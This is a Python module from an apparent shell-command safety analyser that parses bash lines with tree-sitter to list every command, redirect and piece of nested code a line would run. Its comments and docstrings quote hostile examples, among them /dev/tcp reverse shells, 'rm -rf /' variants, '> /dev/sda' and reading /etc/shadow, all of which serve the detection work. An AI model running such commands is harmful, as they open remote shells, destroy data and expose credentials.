"""The walk over tree-sitter-bash's syntax tree: every simple command a line would run."""

from __future__ import annotations

import functools
import posixpath
import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from cmdai.shellparse.runners import (
    TCL_SHELLS,
    WRITERS,
    runner_writes,
    tcl_commands,
    tcl_writes,
)
from cmdai.shellparse.vocabulary import (
    _CONTAINERS,
    _INTERPRETERS,
    _SOURCE,
    MAX_DEPTH,
    MAX_NESTED,
    SETUP_PRINTERS,
    SHELLS,
)
from cmdai.shellparse.words import (
    _CRON_TIME,
    _ansi_c,
    _deferred_skip,
    _has_script,
    _in_dir,
    _unescape,
    environment_read,
    expand_braces,
    literal_output,
    nested_argv,
    nested_code,
    normalise_options,
    peel_writing,
    resolve_target,
    xargs_marker,
)

if TYPE_CHECKING:
    from tree_sitter import Node, Parser, Tree

_ASTRAL = re.compile("[\U00010000-\U0010ffff]")
_IFS = re.compile(r"\$\{IFS[^}]*\}|\$IFS\b")
_BRACE_COMMAND = re.compile(r"(?:^|(?<=[;&|(`\n]))\s*\{((?:[^{},\s]+,)+[^{},\s]+)\}")
_POSITIONAL = frozenset("@*#0123456789")
_DQ_ESCAPE = re.compile(r"\\([\\$`\"\n])")
_UNSAFE_IN_TEXT = str.maketrans({c: "_" for c in "<>|;&\n"})


@dataclass(frozen=True)
class SimpleCommand:
    """One simple command as it would run.

    Attributes:
        argv: Its words, normalised; ``argv[0]`` is the utility's name without its path.
        wrappers: Wrapper commands peeled off in front of it (``("sudo", "env")``).
        depth: 0 on the line itself; more inside code handed to another program.
        dynamic: True when the command's name is only known at run time (``$CMD``, ``$(...)``).
        redirects: Its own redirections (``bash -i >& /dev/tcp/h/1``: the ``/dev/tcp`` one).
        stdin: The text it reads on standard input, when that is known (``echo x | crontab -``).
    """

    argv: tuple[str, ...]
    wrappers: tuple[str, ...] = ()
    depth: int = 0
    dynamic: bool = False
    redirects: tuple[Redirect, ...] = ()
    stdin: str | None = None

    @functools.cached_property
    def text(self) -> str:
        """The words joined for pattern matching (shell punctuation inside a word neutralised)."""
        return " ".join(_text_word(w) for w in self.argv)

    @functools.cached_property
    def full_text(self) -> str:
        """Like ``text`` with the peeled wrappers in front (``sudo env rm ...``)."""
        return " ".join((*self.wrappers, self.text)) if self.wrappers else self.text

    @functools.cached_property
    def io_text(self) -> str:
        """Like ``text`` with its own redirections after it (``mail root < /etc/shadow``)."""
        return " ".join((self.text, *(r.text for r in self.redirects)))


@dataclass(frozen=True)
class Redirect:
    """A redirection: operator (``>``, ``>>``, ``&>``, ``<``...) and normalised target."""

    operator: str
    target: str

    @property
    def text(self) -> str:
        """``> /dev/sda``."""
        return f"{self.operator} {_text_word(self.target)}"


@dataclass(frozen=True)
class Analysis:
    """What a command line would run.

    Attributes:
        commands: Every simple command, including nested code, in the order met.
        redirects: Every output or input redirection.
        pipelines: Each pipeline as text, ``a | b | c`` (with and without wrappers), including
            the implied ones: a substitution handed to a shell reads as ``inner | sh``.
        problems: Why parts could not be vouched for: ``syntax`` (not valid bash) or ``depth``
            (code nested too deeply or too often to follow).
        sources: Every piece of shell code read, as written: the line itself, then the code it
            hands to a shell (``bash -c``, ``eval``, decoded base64...), for rules that read
            shapes rather than commands (a loop that keeps forking).
    """

    commands: tuple[SimpleCommand, ...]
    redirects: tuple[Redirect, ...]
    pipelines: tuple[str, ...]
    problems: tuple[str, ...]
    sources: tuple[str, ...] = ()


def analyse(command: str) -> Analysis:
    """Analyse ``command`` (never raises on any text)."""
    command = command.replace("\x00", "")  # bash cannot pass NUL bytes; it drops them
    walker = _Walker()
    walker.code(command, 0)
    # Obfuscations that change how bash splits words: ${IFS} as a space, {rm,-rf,/} as words.
    # Analysing the rewritten line as well over-approximates, which is the safe direction.
    variant = _BRACE_COMMAND.sub(
        lambda m: " " + m.group(1).replace(",", " "), _IFS.sub(" ", command)
    )
    if variant != command:
        extra = _Walker()
        extra.code(variant, 0)
        walker.commands.extend(extra.commands)
        walker.redirects.extend(extra.redirects)
        walker.pipelines.extend(extra.pipelines)
    return Analysis(
        tuple(walker.commands),
        tuple(walker.redirects),
        tuple(dict.fromkeys(walker.pipelines)),
        tuple(dict.fromkeys(walker.problems)),
        tuple(dict.fromkeys(walker.sources)),
    )


@functools.cache
def split_commands(command: str) -> list[list[str]]:
    """The argv of each simple command on the line, normalised, wrappers peeled off.

    Substitutions count (``echo $(date)`` runs ``date``); code handed to another program
    (``bash -c``, ``xargs``, ``find -exec``) does not: ``cmdai.shellparse.analyse`` has it.

    Raises:
        ValueError: the line is not valid bash (for example an unclosed quote).
    """
    analysis = analyse(command)
    if "syntax" in analysis.problems:
        raise ValueError(f"not valid shell syntax: {command!r}")
    # Assignment-only commands (``FOO=1``) run nothing and have no argv.
    return [list(c.argv) for c in analysis.commands if c.depth == 0 and c.argv]


def _has_code(args: list[str]) -> bool:
    """A shell's ``-c`` (its code is an argument, not a script file)."""
    return any(a.startswith("-") and not a.startswith("--") and "c" in a[1:] for a in args)


def _parser() -> Parser:
    import tree_sitter
    import tree_sitter_bash

    return tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))


def syntax_tree(text: str) -> Tree:
    """The bash grammar's syntax tree of ``text`` (as ``analyse`` reads it; ``_parsable``)."""
    return _parser().parse(_parsable(text))


def _parsable(text: str) -> bytes:
    """UTF-8 for the parser, with astral-plane characters replaced by U+FFFD.

    tree-sitter-bash 0.25.1's scanner crashes the process (SIGSEGV) on some characters above
    U+FFFF after ``{`` (found by fuzzing: ``"{" + chr(0x10FFFD)``); no shell word the rules read
    needs them.

    ``N<>FILE`` (FILE opened to read and write) is given as ``N<FILE``: the grammar reads
    ``<>`` as ``<`` and a word ``>``, which left ``sh -i 5<>/dev/tcp/h/1 <&5`` unread.
    """
    return _ASTRAL.sub("\ufffd", text).replace("<>", "<").encode("utf-8", "replace")


def _text_word(word: str) -> str:
    return word.translate(_UNSAFE_IN_TEXT)


def _node_text(node: Node) -> str:
    return (node.text or b"").decode("utf-8", "replace")


@dataclass
class _Walker:
    """Mutable state of one analysis (private; ``analyse`` returns frozen values)."""

    commands: list[SimpleCommand] = field(default_factory=list)
    redirects: list[Redirect] = field(default_factory=list)
    pipelines: list[str] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)
    sources: list[str] = field(default_factory=list)
    variables: dict[str, str] = field(default_factory=dict)
    # Literal text this line writes to a file (path and basename): run later on the same line
    # (`echo CODE > f.sh; bash f.sh`), it is code.
    written: dict[str, str] = field(default_factory=dict)
    nested: int = 0
    cwd: str = ""

    # -- entry points -------------------------------------------------------------------
    def code(self, text: str, depth: int) -> str | None:
        """Parse and walk ``text``; return its literal output when it is known."""
        if depth > MAX_DEPTH or self.nested > MAX_NESTED:
            self.problems.append("depth")
            return None
        if depth:
            self.nested += 1
        self.sources.append(text)
        tree = syntax_tree(text)
        if tree.root_node.has_error:
            self.problems.append("syntax")
        return self.walk(tree.root_node, depth)

    def walk(self, node: Node, depth: int, stdin: str | None = None) -> str | None:
        """Walk one node; return the literal text it writes to stdout, when known."""
        kind = node.type
        if kind == "command":
            return self.command(node, depth, stdin, ())
        if kind == "pipeline":
            return self.pipeline(list(node.named_children), depth, stdin)
        if kind == "redirected_statement":
            return self.redirected(node, depth, stdin)
        if kind == "variable_assignment":
            self.assign(node, depth)
            return None
        if kind in ("unset_command", "declaration_command"):
            words = [_node_text(node.children[0])] if node.children else []
            for child in node.named_children:
                if child.type == "variable_assignment":
                    self.assign(child, depth)
                    words.append(_node_text(child))
                else:
                    words.append(self.render(child, depth))
            return self.argv(words, depth, stdin)
        if kind in ("command_substitution", "process_substitution"):
            self.render(node, depth)
            return None
        if kind == "for_statement":
            return self.for_loop(node, depth)
        if kind in ("heredoc_body", "comment"):
            return None
        out: str | None = None
        for child in node.named_children:
            out = self.walk(child, depth)
        return out

    # -- statements ---------------------------------------------------------------------
    def for_loop(self, node: Node, depth: int) -> str | None:
        """``for f in ~/*; do rm -rf "$f"; done``: ``$f`` reads as the words it ranges over."""
        variable = node.child_by_field_name("variable")
        values = [
            w
            for v in node.children_by_field_name("value")
            for w in expand_braces(self.render(v, depth))
        ]
        if variable is not None and values:
            self.variables[_node_text(variable)] = " ".join(values)
        body = node.child_by_field_name("body")
        return self.walk(body, depth) if body is not None else None

    def pipeline(self, stages: list[Node], depth: int, stdin: str | None) -> str | None:
        texts: list[str] = []
        full: list[str] = []
        data = stdin
        for stage in stages:
            before = len(self.commands)
            data = self.walk(stage, depth, data)
            own = [c for c in self.commands[before:] if c.depth == depth]
            texts.append(" ; ".join(c.text for c in own))
            full.append(" ; ".join(c.full_text for c in own))
        if len(stages) > 1:
            self.pipelines.append(" | ".join(texts))
            self.pipelines.append(" | ".join(full))
        return data

    def redirected(self, node: Node, depth: int, stdin: str | None) -> str | None:
        body = node.child_by_field_name("body")
        rest: list[Node] = []
        extra: list[str] = []
        own: list[Redirect] = []
        for child in node.named_children:
            if child == body:
                continue
            if child.type in ("heredoc_redirect", "herestring_redirect"):
                data, tail = self.input_redirect(child, depth)
                stdin = data if data is not None else stdin
                rest.extend(tail)
            elif child.type == "file_redirect":
                redirect, words = self.file_redirect(child, depth)
                own.append(redirect)
                extra.extend(words)
        if body is None:
            return None
        if rest:  # `cat <<EOF | sh`: tree-sitter puts the rest of the pipeline in the heredoc
            return self.pipeline([body, *rest], depth, stdin)
        if body.type == "command":
            return self.command(body, depth, stdin, tuple(extra), tuple(own))
        return self.walk(body, depth, stdin)

    def input_redirect(self, node: Node, depth: int) -> tuple[str | None, list[Node]]:
        data: str | None = None
        tail: list[Node] = []
        for child in node.named_children:
            if child.type == "heredoc_body":
                data = _node_text(child)
            elif child.type == "pipeline":
                tail.extend(child.named_children)
            elif child.type in ("heredoc_start", "heredoc_end", "file_descriptor"):
                continue
            elif node.type == "herestring_redirect":
                data = self.render(child, depth)
            else:
                tail.append(child)
        return data, tail

    def file_redirect(self, node: Node, depth: int) -> tuple[Redirect, list[str]]:
        """Record a redirection; return it and the words after its target (arguments)."""
        operator = ""
        words: list[str] = []
        for child in node.children:
            if not child.is_named:
                operator += _node_text(child)
            elif child.type != "file_descriptor":
                words.append(self.render(child, depth))
        redirect = Redirect(operator or ">", resolve_target(words[0]) if words else "")
        self.redirects.append(redirect)
        return redirect, words[1:]

    def assign(self, node: Node, depth: int) -> None:
        name = node.child_by_field_name("name")
        value = node.child_by_field_name("value")
        rendered = self.render(value, depth) if value is not None else ""
        if name is not None and name.type == "variable_name":
            self.variables[_node_text(name)] = rendered

    def command(
        self,
        node: Node,
        depth: int,
        stdin: str | None,
        extra: tuple[str, ...],
        redirects: tuple[Redirect, ...] = (),
    ) -> str | None:
        words: list[str] = []
        own = list(redirects)
        dynamic = False
        before = len(self.commands)
        for child in node.named_children:
            kind = child.type
            if kind == "variable_assignment":
                self.assign(child, depth)
            elif kind in ("herestring_redirect", "heredoc_redirect"):
                data, _ = self.input_redirect(child, depth)
                stdin = data if data is not None else stdin
            elif kind == "file_redirect":
                redirect, after = self.file_redirect(child, depth)
                own.append(redirect)
                words.extend(after)
            elif kind == "command_name":
                inner = child.named_children[0] if child.named_children else child
                if inner.type == "string" and len(inner.named_children) == 1:
                    inner = inner.named_children[0]  # "$CMD" runs what $CMD holds, as $CMD does
                start = len(self.commands)
                name = self.render(inner, depth)
                if re.match(r"\$\s", name):  # `$ ls`, a shell prompt pasted in: runs `$`
                    words.append("$")
                    name = name[1:].strip()
                dynamic = inner.type in ("simple_expansion", "expansion", "command_substitution")
                dynamic = dynamic and ((len(name) > 1 and name.startswith("$")) or name == "")
                # `eval "$(ssh-agent -s)"`: the output of a shell-setup tool is its own code.
                ran = self.commands[start:]
                if dynamic and len(ran) == 1 and ran[0].argv[0] in SETUP_PRINTERS:
                    dynamic = False
                words.append(name)
            else:
                words.append(self.render(child, depth))
        substituted = " | ".join(c.text for c in self.commands[before:])
        argv = [w for word in (*words, *extra) for w in expand_braces(word)]
        return self.argv(
            argv, depth, stdin, dynamic=dynamic, substituted=substituted, redirects=tuple(own)
        )

    # -- argv ---------------------------------------------------------------------------
    def argv(
        self,
        words: list[str],
        depth: int,
        stdin: str | None,
        *,
        dynamic: bool = False,
        substituted: str = "",
        redirects: tuple[Redirect, ...] = (),
    ) -> str | None:
        """Record one simple command (after peeling wrappers) and follow the code it runs."""
        wrappers, argv, codes, written = peel_writing(words)
        for code in codes:
            self.code(code, depth + 1)
        # What a wrapper writes is written by the line, whatever command it runs.
        redirects += self.writes(written)
        if not argv:
            return None
        argv = [argv[0], *normalise_options(argv[0], argv[1:])]
        if argv[0] == "cd":
            self.cwd = argv[1] if len(argv) > 1 and argv[1].startswith(("/", "~")) else ""
        elif self.cwd:  # `cd / && rm -rf *` deletes /*
            argv = [argv[0], *(_in_dir(self.cwd, a) for a in argv[1:])]
        name, args = argv[0], argv[1:]
        if self.variables:  # code that reads a variable set on the line (`ENV["F"]`)
            args = [environment_read(a, self.variables) for a in args]
            argv = [name, *args]
        if name in WRITERS:  # a file named in the program's own syntax (`sed 'w F'`)
            redirects += self.writes(runner_writes(name, args))
        self.commands.append(
            SimpleCommand(tuple(argv), tuple(wrappers), depth, dynamic, redirects, stdin)
        )
        for code in nested_code(name, args):
            self.code(code, depth + 1)
        for inner in nested_argv(name, args):
            self.argv(inner, depth + 1, None)
        if _INTERPRETERS.match(name) or name in _CONTAINERS:
            self.inline(name, args, depth)
        script = self.script_run(name, args)
        if script is not None:
            self.code(script, depth + 1)
        # A shell runs its standard input; so do at and batch (a job for later) without -f.
        runs_input = (name in SHELLS and not _has_script(args)) or (
            name in ("at", "batch") and "-f" not in args
        )
        if substituted and (name in SHELLS or name in _SOURCE):
            self.pipelines.append(f"{substituted} | sh")
        if stdin is not None and runs_input:
            self.code(stdin, depth + 1)
        if stdin is not None and name in TCL_SHELLS:  # `... | tclsh`: Tcl code
            for code in tcl_commands(stdin):
                self.code(code, depth + 1)
            self.writes(tcl_writes(stdin))
        if stdin is not None and name == "xargs":
            run = nested_argv(name, args)
            command, marker = (run[0] if run else ["echo"]), xargs_marker(args)
            if marker is None:
                self.argv([*command, *stdin.split()], depth + 1, None)
            else:  # `xargs -I {} CMD {}`: each line takes the marker's place
                for line in stdin.splitlines()[:8]:
                    self.argv([w.replace(marker, line) for w in command], depth + 1, None)
        output = literal_output(name, args, stdin)
        # Code written where a shell runs it later (a startup file, a crontab) is code too.
        sinks = [r.target for r in redirects if ">" in r.operator] if output is not None else []
        if stdin is not None and name == "tee":
            output, sinks = stdin, [a for a in args if not a.startswith("-")]
        if stdin is not None and name == "crontab" and all(a == "-" for a in args):
            output, sinks = stdin, ["crontab"]
        for sink in sinks:
            if output is not None:
                self.written[sink] = self.written[posixpath.basename(sink)] = output
            skip = _deferred_skip(sink)
            if output is not None and skip is not None:
                for line in output.split("\n"):
                    code = _CRON_TIME.sub("", line, count=1) if skip else line
                    fields = code.split(None, skip - 5) if skip > 5 else [code]
                    # A cron line without a schedule, or a line only known at run time, is
                    # not read.
                    if skip:
                        readable = code != line and bool(code.strip())
                    else:
                        readable = bool(line.strip()) and not line.lstrip().startswith("$")
                    if readable:
                        self.code(fields[-1], depth + 1)
        return literal_output(name, args, stdin)

    def writes(self, paths: list[str]) -> tuple[Redirect, ...]:
        """Files the line writes without a ``>`` in it, recorded as redirects (``> PATH``)."""
        wrote = tuple(Redirect(">", resolve_target(path)) for path in paths)
        self.redirects.extend(wrote)
        return wrote

    def script_run(self, name: str, args: list[str]) -> str | None:
        """The text of a script this line wrote earlier and now runs (else None)."""
        if not self.written:
            return None
        if name in SHELLS or name in _SOURCE:
            words = [a for a in args if not a.startswith(("-", "+"))]
            path = words[0] if words and (name not in SHELLS or not _has_code(args)) else None
        else:
            path = name if name.endswith(".sh") else None  # `./f.sh`, reduced to its name
        if path is None:
            return None
        return self.written.get(path) or self.written.get(posixpath.basename(path))

    def inline(self, name: str, args: list[str], depth: int) -> None:
        """Code inside code: an interpreter one-liner, or a container run with host mounts."""
        from cmdai.inline import container_command, interpreter_commands

        if name in _CONTAINERS:
            inner = container_command(name, args)
            if inner is not None:
                self.argv(inner, depth + 1, None)
            return
        codes, argvs = interpreter_commands(name, args)
        for code in codes:
            self.code(code, depth + 1)
        for inner in argvs:
            self.argv(inner, depth + 1, None)

    # -- words --------------------------------------------------------------------------
    def render(self, node: Node, depth: int) -> str:
        """The word ``node`` stands for, as far as it is known without running anything."""
        kind = node.type
        if kind == "word":
            return resolve_target(_unescape(_node_text(node)))
        if kind == "raw_string":
            return _node_text(node)[1:-1]
        if kind == "ansi_c_string":
            return _ansi_c(_node_text(node)[2:-1])
        if kind == "string_content":
            return _DQ_ESCAPE.sub(r"\1", _node_text(node))
        if kind in ("string", "translated_string"):
            return "".join(self.render(c, depth) for c in node.named_children)
        if kind == "concatenation":
            return resolve_target("".join(self.render(c, depth) for c in node.named_children))
        if kind in ("simple_expansion", "expansion"):
            return self.expansion(node, depth)
        if kind == "command_substitution":
            out: str | None = None
            for child in node.named_children:
                out = self.walk(child, depth)
            return out.strip() if out is not None else _node_text(node)
        if kind == "process_substitution":
            for child in node.named_children:
                self.walk(child, depth)
            return _node_text(node)
        if kind == "arithmetic_expansion":
            for child in node.named_children:
                self.walk(child, depth)
        return _node_text(node)

    def expansion(self, node: Node, depth: int) -> str:
        names = [
            c for c in node.named_children if c.type in ("variable_name", "special_variable_name")
        ]
        text = _node_text(node)
        if not names:
            for child in node.named_children:
                self.walk(child, depth)
            return text
        name = _node_text(names[0])
        simple = text in (f"${name}", f"${{{name}}}")
        if name == "HOME":
            return "~"
        if name == "IFS":
            return " "
        if name in _POSITIONAL and simple:
            return ""
        if simple and name in self.variables:
            value = self.variables[name]
            ifs = self.variables.get("IFS", "").strip()
            if ifs and (node.parent is None or node.parent.type != "string"):
                # IFS=, then an unquoted $c: bash splits the value on the commas.
                value = "".join(" " if ch in ifs else ch for ch in value)
            return value
        for child in node.named_children:  # ${x:-$(rm -rf /)} still runs the substitution
            if child not in names:
                self.walk(child, depth)
        return text
